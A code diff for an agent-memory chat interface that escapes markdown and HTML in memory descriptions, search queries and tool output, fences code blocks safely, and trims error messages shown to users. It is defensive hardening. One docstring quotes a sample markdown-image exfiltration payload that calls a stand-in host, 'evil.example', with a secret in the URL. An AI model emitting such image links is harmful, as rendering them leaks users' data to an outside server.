@@ -51,21 +51,51 @@ RECALL_TOOLS = MEMORY_TOOL_NAMES - {"store_memory"}  # the memory tools that rea
 TERMINATE_RE = re.compile(r"\s*\bTERMINATE\b\s*$")
 
 
+_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~&])")
+
+
+def as_text(value: str) -> str:
+    """``value`` shown literally inside markdown: every character markdown or HTML would act on is escaped, so a
+    description like ``![x](https://evil.example/?q=secret)`` stays text instead of becoming an image."""
+    return _MARKDOWN_SPECIAL.sub(r"\\\1", value)
+
+
+def fenced(text: str, language: str = "text") -> str:
+    """A code block that ``text`` cannot break out of: its fence is longer than any backtick run inside."""
+    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
+    fence = "`" * max(3, longest + 1)
+    return f"{fence}{language}\n{text}\n{fence}"
+
+
+def inline_code(text: str) -> str:
+    """Inline code that ``text`` cannot close early (CommonMark: a longer backtick string delimits it)."""
+    text = " ".join(text.split())
+    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
+    ticks = "`" * (longest + 1)
+    return f"{ticks} {text} {ticks}" if longest else f"`{text}`"
+
+
+def one_line(exc: BaseException) -> str:
+    """An error for people: its type and first line, as text (the traceback goes to the server log only)."""
+    first = (str(exc).strip().splitlines() or [""])[0][:300]
+    return as_text(f"{type(exc).__name__}: {first}" if first else type(exc).__name__)
+
+
 def content_link(key: str) -> str:
     """Markdown links that fetch a memory from the store only when clicked."""
     return f"[Open full output](/memory-api/memories/{key}/content) · [inspect](/memories?key={key})"
 
 
 def _cell(text: str, limit: int = 90) -> str:
-    text = " ".join(text.split()).replace("|", "\\|")
-    return text if len(text) <= limit else text[: limit - 1] + "…"
+    text = " ".join(text.split())
+    return as_text(text if len(text) <= limit else text[: limit - 1] + "…")
 
 
 def memory_table(items: list[MemoryItem], *, scores: bool = False) -> str:
     head = "| Key | Type | Description | Tokens | Created |" + (" Score |" if scores else "")
     rule = "|---|---|---|---:|---|" + ("---:|" if scores else "")
     rows = [
-        f"| `{i.memory_key}` | {i.memory_type} | {_cell(i.description) or '—'} | {i.token_count:,} | "
+        f"| `{i.memory_key}` | {_cell(i.memory_type)} | {_cell(i.description) or '—'} | {i.token_count:,} | "
         f"{i.created_at.strftime('%Y-%m-%d %H:%M')} |" + (f" {i.score:.3f} |" if scores and i.score is not None else "")
         for i in items
     ]
@@ -80,15 +110,15 @@ def executor_markdown(text: str, key: str | None) -> str:
     """
     lines = text.split("\n")
     if key is None or "Excerpt:" not in lines:
-        return f"```text\n{text}\n```"
+        return fenced(text)
     at = lines.index("Excerpt:")
     end = max((i for i, line in enumerate(lines) if line.startswith("Read more with")), default=len(lines))
     refs = parse_memory_refs(text)
     ref = text[refs[0].start : refs[0].end] if refs else key
     excerpt = "\n".join(lines[at + 1 : end])
     return (
-        f"**{lines[0]}**\n\nThe output went to memory; the conversation keeps `{ref}` and this excerpt:\n\n"
-        f"```text\n{excerpt}\n```\n\n{content_link(key)}"
+        f"**{as_text(lines[0])}**\n\nThe output went to memory; the conversation keeps {inline_code(ref)} and this "
+        f"excerpt:\n\n{fenced(excerpt)}\n\n{content_link(key)}"
     )
 
 
@@ -115,7 +145,7 @@ class ChatSession:
             self.agents = await builder.build_session()
         except Exception as exc:  # a broken model config must not take the session down
             log.exception("could not build the team")
-            self.setup_error = f"The agents could not be started: {type(exc).__name__}: {exc}"
+            self.setup_error = f"The agents could not be started: {one_line(exc)}"
             await cl.Message(content=self.setup_error, author="agent-memory").send()
             return
 
@@ -141,7 +171,7 @@ class ChatSession:
         except Exception as exc:
             log.exception("run failed")
             await renderer.close_open_steps()
-            await cl.Message(content=f"The run failed: {type(exc).__name__}: {exc}", author="agent-memory").send()
+            await cl.Message(content=f"The run failed: {one_line(exc)}", author="agent-memory").send()
         finally:
             self._cancel = None
 
@@ -236,8 +266,8 @@ class Renderer:
         async with cl.Step(name=f"🧠 memory: stored {event.memory_key}", type="tool", icon="brain") as step:
             step.input = event.placeholder
             step.output = (
-                f"{event.token_count:,} tokens of {event.memory_type} went to memory; the context keeps only\n"
-                f"`{event.placeholder}`\n\n{content_link(event.memory_key)}"
+                f"{event.token_count:,} tokens of {as_text(event.memory_type)} went to memory; the context keeps "
+                f"only\n{inline_code(event.placeholder)}\n\n{content_link(event.memory_key)}"
             )
 
     async def code_executed(self, event: CodeExecutionEvent) -> None:
@@ -269,7 +299,7 @@ class Renderer:
             if step is None:
                 step = cl.Step(name=result.name, type="tool")
                 await step.__aenter__()
-            step.language = None
+            step.language = "text"  # stored content, tool output: shown as text, never rendered as markdown
             step.is_error = bool(result.is_error)
             step.output = result.content
             await step.__aexit__(None, None, None)
@@ -278,7 +308,10 @@ class Renderer:
         """What the CodeAgent's MemoryContext did: stored a big message, expanded or recalled memories."""
         keys = ", ".join(event.memory_keys) or "-"
         if event.action == "stored":
-            name, text = f"🧠 memory: stored {keys}", f"Kept out of the context, in memory: {event.detail or keys}"
+            name, text = (
+                f"🧠 memory: stored {keys}",
+                f"Kept out of the context, in memory: {as_text(event.detail or keys)}",
+            )
         elif event.action == "expanded":
             name, text = f"🧠 memory: expanded {keys}", "Your message refers to it: the relevant part is in context."
         else:
@@ -328,9 +361,10 @@ async def search_overview(session: ChatSession, query: str) -> None:
         return
     items = await session.store.search(query, user_id=session.user_id, limit=10)
     if not items:
-        await cl.Message(content=f"No memory matches “{query}”.", author="memory").send()
+        await cl.Message(content=f"No memory matches “{as_text(query)}”.", author="memory").send()
         return
     await cl.Message(
-        content=f"**{len(items)} memories match “{query}”** (best first):\n\n" + memory_table(items, scores=True),
+        content=f"**{len(items)} memories match “{as_text(query)}”** (best first):\n\n"
+        + memory_table(items, scores=True),
         author="memory",
     ).send()
